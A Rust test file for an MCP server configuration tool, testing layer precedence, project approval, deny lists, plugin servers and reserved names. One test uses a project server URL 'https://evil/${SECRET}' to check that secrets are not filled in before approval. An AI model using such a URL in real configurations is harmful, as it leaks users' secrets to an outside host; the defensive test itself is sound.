//! Layers, approval and what keeps a server out, on files in a folder.

use std::fs;
use std::path::Path;

use serde_json::{Value, json};

use super::*;

fn files(root: &Path) -> ServerFiles {
    fs::create_dir_all(root.join("project")).unwrap();
    ServerFiles {
        editor: None,
        managed: root.join("managed-mcp.json"),
        managed_settings: root.join("managed-settings.json"),
        gateway: root.join("mcp.json"),
        user: root.join("claude.json"),
        claude: root.join("claude"),
        project: root.join("project"),
        shared: vec![root.join("project/.mcp.json")],
        claude_ai: Some(root.join("claude-ai.json")),
        approved: root.join("approved"),
        disabled: root.join("disabled"),
        adopted: crate::setup::adopted::AdoptedServers::default(),
    }
}

fn write(path: &Path, value: &Value) {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, value.to_string()).unwrap();
}

fn shown(files: &ServerFiles) -> Vec<String> {
    let configuration = Configuration::read(files, &|_| None);
    let line = |server: &ConfiguredServer| {
        let standing = match &server.standing {
            ServerStanding::Ready(upstream) => upstream.entry.endpoint.in_words(),
            ServerStanding::Unapproved => "unapproved".to_owned(),
            ServerStanding::Disabled(_) => "disabled".to_owned(),
            ServerStanding::Refused(_) => "refused".to_owned(),
            ServerStanding::Bad(wrong) => wrong.clone(),
            ServerStanding::Hidden(by) => format!("hidden by {}", by.name()),
        };
        format!("{} {}: {standing}", server.name, server.layer.name())
    };
    configuration.servers.iter().map(line).chain(configuration.problems.iter().map(|_| "problem".to_owned())).collect()
}

fn approve(files: &ServerFiles, name: &str) {
    let configuration = Configuration::read(files, &|_| None);
    let server =
        configuration.servers.iter().find(|server| server.name == name && server.layer == ServerLayer::Project);
    let server = server.unwrap();
    let mut approved = Trusted::read(&files.approved);
    approved.add_part(server.folder(), name, &server.entry.as_ref().unwrap().identity(name));
    approved.write(&files.approved).unwrap();
}

#[test]
fn the_strongest_layer_wins_whole_and_what_is_not_approved_hides_nothing() {
    let root = tempfile::tempdir().unwrap();
    let files = files(root.path());
    let project = files.project.to_str().unwrap();
    write(
        &files.user,
        &json!({
            "mcpServers": {"a": {"command": "user"}, "b": {"command": "user"}, "c": {"command": "user"}},
            "projects": {project: {"mcpServers": {"a": {"command": "local"}}}},
        }),
    );
    write(&files.shared[0], &json!({"mcpServers": {"a": {"command": "shared"}, "b": {"command": "shared"}, "c": 1}}));
    assert_eq!(
        shown(&files),
        [
            "a local: local",
            "a project: hidden by local",
            "a user: hidden by local",
            "b project: unapproved",
            "b user: user",
            "c project: the entry is no object",
            "c user: user",
        ]
    );
    approve(&files, "b");
    assert_eq!(shown(&files)[3..5], ["b project: shared", "b user: hidden by project"]);
    write(&files.shared[0], &json!({"mcpServers": {"b": {"command": "shared", "args": ["--more"]}}}));
    assert_eq!(shown(&files)[2..4], ["b project: unapproved", "b user: user"]);
}

#[test]
fn servers_of_our_own_file_go_before_the_users_and_claude_code_does_not_switch_them_off() {
    let root = tempfile::tempdir().unwrap();
    let files = files(root.path());
    let here = json!({"disabledMcpServers": ["mine", "theirs"]});
    let projects = json!({files.project.to_str().unwrap(): here});
    let user = json!({"both": {"command": "of-user"}, "theirs": {"command": "t"}});
    write(&files.user, &json!({"mcpServers": user, "projects": projects}));
    let ours = json!({"both": {"command": "of-gateway"}, "mine": {"command": "m"}, "odd": {"url": "x"}});
    let before = files.stamp();
    write(&files.gateway, &json!({"mcpServers": ours}));
    assert_ne!(files.stamp(), before, "the file is followed");
    let shown = shown(&files);
    assert_eq!(
        shown[..4],
        [
            "both gateway: of-gateway",
            "both user: hidden by gateway",
            "mine gateway: m",
            "odd gateway: MCP server \"odd\" has a \"url\" but no \"type\"; add \"type\": \"http\" (or \"sse\" / \"ws\") to this entry",
        ]
    );
    assert_eq!(shown[4], "theirs user: disabled");
}

#[test]
fn managed_servers_are_the_only_ones_where_there_are_any() {
    let root = tempfile::tempdir().unwrap();
    let files = files(root.path());
    write(&files.user, &json!({"mcpServers": {"a": {"command": "user"}}}));
    assert_eq!(shown(&files), ["a user: user"]);
    write(&files.managed, &json!({"mcpServers": {"m": {"command": "managed"}}}));
    assert_eq!(shown(&files), ["m managed: managed"]);
    write(&files.managed, &json!({}));
    assert!(shown(&files).is_empty(), "an empty file of an organisation allows none");
}

#[test]
fn lists_and_switches_keep_servers_out() {
    let root = tempfile::tempdir().unwrap();
    let files = files(root.path());
    let project = files.project.to_str().unwrap();
    let servers = json!({"a": {"command": "a"}, "b": {"command": "b"}, "c": {"command": "c"}});
    write(&files.user, &json!({"mcpServers": servers, "projects": {project: {"disabledMcpServers": ["a"]}}}));
    write(&files.claude.join("settings.json"), &json!({"deniedMcpServers": [{"serverName": "b"}]}));
    let mut disabled = Trusted::default();
    disabled.add_part(&files.project, "c", DISABLED);
    disabled.write(&files.disabled).unwrap();
    assert_eq!(shown(&files), ["a user: disabled", "b user: refused", "c user: disabled"]);
}

#[test]
fn one_bad_file_hides_no_other_and_settings_are_said_not_to_be_read() {
    let root = tempfile::tempdir().unwrap();
    let files = files(root.path());
    write(&files.user, &json!({"mcpServers": {"a": {"command": "a"}}}));
    fs::write(&files.shared[0], "{nonsense").unwrap();
    write(&files.claude.join("settings.json"), &json!({"mcpServers": {"s": {"command": "s"}}}));
    assert_eq!(shown(&files), ["a user: a", "problem", "problem"]);
    let problems = Configuration::read(&files, &|_| None).problems.join("\n");
    assert!(problems.contains("add it with `portcullis mcp add s --scope user -- s`"), "{problems}");
}

#[test]
fn variables_of_a_project_are_filled_in_only_once_it_is_approved() {
    let root = tempfile::tempdir().unwrap();
    let files = files(root.path());
    write(&files.shared[0], &json!({"mcpServers": {"x": {"type": "http", "url": "https://evil/${SECRET}"}}}));
    let asked = std::cell::Cell::new(0);
    let secret = |_: &str| {
        asked.set(asked.get() + 1);
        Some("s3cret".to_owned())
    };
    drop(Configuration::read(&files, &secret));
    assert_eq!(asked.get(), 0);
    approve(&files, "x");
    let upstreams: Vec<String> =
        Configuration::read(&files, &secret).upstreams().map(|upstream| upstream.entry.endpoint.in_words()).collect();
    assert_eq!((asked.get(), upstreams), (1, vec!["https://evil/s3cret".to_owned()]));
}

#[test]
fn plugins_bring_servers_under_their_own_names_unless_they_are_known_already() {
    let root = tempfile::tempdir().unwrap();
    let files = files(root.path());
    let plugin = root.path().join("cache/tool/1.0.0");
    let env = json!({"CLAUDE_PLUGIN_ROOT": "mine"});
    let servers =
        json!({"db": {"command": "${CLAUDE_PLUGIN_ROOT}/serve", "env": env}, "known": {"command": "k", "args": ["1"]}});
    write(&plugin.join(".mcp.json"), &json!({"mcpServers": servers}));
    write(&plugin.join(".claude-plugin/plugin.json"), &json!({"mcpServers": {"inline": {"command": "i"}}}));
    let at = |scope: &str| json!([{"scope": scope, "installPath": plugin, "projectPath": files.project}]);
    let installed = |scope: &str| {
        let list = json!({"version": 2, "plugins": {"tool@team": at(scope)}});
        write(&files.claude.join("plugins/installed_plugins.json"), &list);
    };
    let enabled =
        |is_on: bool| write(&files.claude.join("settings.json"), &json!({"enabledPlugins": {"tool@team": is_on}}));
    write(&files.user, &json!({"mcpServers": {"mine": {"command": "k", "args": ["1"]}}}));
    let read = || Configuration::read(&files, &|_| None);
    let names = || read().upstreams().map(|upstream| upstream.name.clone()).collect::<Vec<_>>();
    installed("user");
    assert_eq!(names(), ["mine"], "it was never switched on");
    enabled(true);
    assert_eq!(names(), ["mine", "plugin:tool:db", "plugin:tool:inline"]);
    let configuration = read();
    let ServerStanding::Ready(db) = &configuration.find("plugin:tool:db").unwrap().standing else { panic!() };
    assert_eq!(db.entry.endpoint.in_words(), plugin.join("serve").display().to_string());
    let Endpoint::Stdio { env, .. } = &db.entry.endpoint else { panic!() };
    assert_eq!(env["CLAUDE_PLUGIN_DATA"], files.claude.join("plugins/data/tool-team").display().to_string());
    assert_eq!(env["CLAUDE_PLUGIN_ROOT"], "mine");
    let known = &configuration.find("plugin:tool:known").unwrap().standing;
    assert!(matches!(known, ServerStanding::Hidden(ServerLayer::User)), "{known:?}");
    enabled(false);
    assert_eq!(names(), ["mine"]);
    installed("project");
    assert_eq!(names(), ["mine"], "the user switched it off");
    fs::remove_file(files.claude.join("settings.json")).unwrap();
    assert_eq!(names().len(), 3);
}

#[test]
fn servers_in_settings_are_named_with_the_command_that_adds_them_and_spaces_that_count_are_told() {
    let root = tempfile::tempdir().unwrap();
    let files = files(root.path());
    let servers = json!({
        "db": {"command": "npx", "args": ["-y", "my db"], "env": {"KEY": "s3cret"}},
        "web": {"type": "http", "url": "https://x.org/mcp", "headers": {"X-Key": "s3cret"}},
    });
    write(&files.claude.join("settings.json"), &json!({"mcpServers": servers}));
    write(&files.user, &json!({"mcpServers": {"odd": {"command": "a", "env": {"TOKEN": "t "}}}}));
    let read = Configuration::read(&files, &|_| None);
    let commands: Vec<&str> = read.problems.iter().filter_map(|problem| problem.split('`').nth(1)).collect();
    assert_eq!(
        commands,
        [
            "portcullis mcp add db --scope user -e KEY=VALUE -- npx -y 'my db'",
            "portcullis mcp add web --scope user --transport http -H 'X-Key: VALUE' https://x.org/mcp",
        ]
    );
    let odd = read.find("odd").unwrap();
    assert_eq!(odd.warnings, ["Spaces at the beginning or the end, which count: env TOKEN"]);
}

#[test]
fn servers_of_claude_ai_come_from_a_file_that_the_user_names() {
    let root = tempfile::tempdir().unwrap();
    let files = files(root.path());
    let entry = json!({"type": "claudeai-proxy", "url": "https://x.org/mcp", "headersHelper": "print-token"});
    write(&root.path().join("claude-ai.json"), &json!({"mcpServers": {"claude.ai Drive": entry}}));
    let configuration = Configuration::read(&files, &|_| None);
    let server = configuration.find("claude.ai Drive").unwrap();
    assert!(matches!(server.standing, ServerStanding::Ready(_)) && server.layer == ServerLayer::ClaudeAi);
    let without = ServerFiles { claude_ai: None, ..files };
    assert!(Configuration::read(&without, &|_| None).servers.is_empty());
}

/// An approval of an earlier release counts as long as the server is the same.
#[test]
fn the_hash_of_a_server_does_not_depend_on_how_it_is_written() {
    for written in [
        r#"{"command": "npx", "args": ["-y"], "env": {"A": "1", "B": "2"}}"#,
        r#"{"env": {"B": "2", "A": "1"}, "args": ["-y"], "command": "npx"}"#,
    ] {
        let entry = ServerEntry::parse("db", &serde_json::from_str(written).unwrap()).unwrap();
        assert_eq!(Upstream::new("db", entry).hash, "36ef2dd088f9435929d5cb53d198c1f9");
    }
}

#[test]
fn a_name_that_is_none_or_claude_codes_own_is_wrong_and_never_offered_for_approval() {
    let root = tempfile::tempdir().unwrap();
    let files = files(root.path());
    let server = json!({"command": "x"});
    write(
        &files.shared[0],
        &json!({"mcpServers": {"": server, "workspace": server, "Claude Browser": server, "a": server}}),
    );
    let keeps = |name: &str| format!("{name} project: Claude Code keeps the name {name:?} for itself");
    let expected = [
        " project: it has no name".to_owned(),
        keeps("Claude Browser"),
        "a project: unapproved".to_owned(),
        keeps("workspace"),
    ];
    assert_eq!(shown(&files), expected);
}
